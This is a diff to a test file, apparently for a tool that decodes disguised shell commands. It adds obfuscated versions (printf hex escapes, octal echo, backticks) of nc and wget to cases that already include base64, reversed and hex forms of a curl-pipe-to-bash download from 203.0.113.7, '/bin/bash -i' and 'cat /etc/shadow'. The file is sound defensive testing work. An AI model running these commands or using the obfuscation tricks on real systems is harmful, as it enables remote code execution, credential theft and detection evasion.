@@ -22,6 +22,7 @@ DISGUISES = {
     "base64 in a subshell": "bash -c \"$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g= | base64 -d)\"",
     "reversed": "echo 'hsab | hs.x/7.311.0.302//:ptth s- lruc' | rev | sh",
     "hex here-string": "xxd -r -p <<< " + b"curl -s http://203.0.113.7/x.sh | bash".hex() + " | sh",
+    "printf in a substitution": "$(printf '\\x63\\x75\\x72\\x6c') -s http://203.0.113.7/x.sh | `echo bash`",
 }
 
 
@@ -54,6 +55,9 @@ def test_a_plain_line_is_not_named_disguised():
     ("d=/tmp/.x; ${d}/run", "d=/tmp/.x; /tmp/.x/run"),
     ("/???/b??h -i", "/bin/bash -i"),
     ("cat /e?c/sha*", "cat /etc/shadow"),
+    ("$(printf '\\x6e\\x63') h 1", "nc h 1"),
+    ("$(echo -e \"\\156c\") h 1", "nc h 1"),
+    ("`echo wget` u", "wget u"),
 ])
 def test_each_disguise_undone(line, wanted):
     assert readable(line).split(" ; ")[0] == wanted
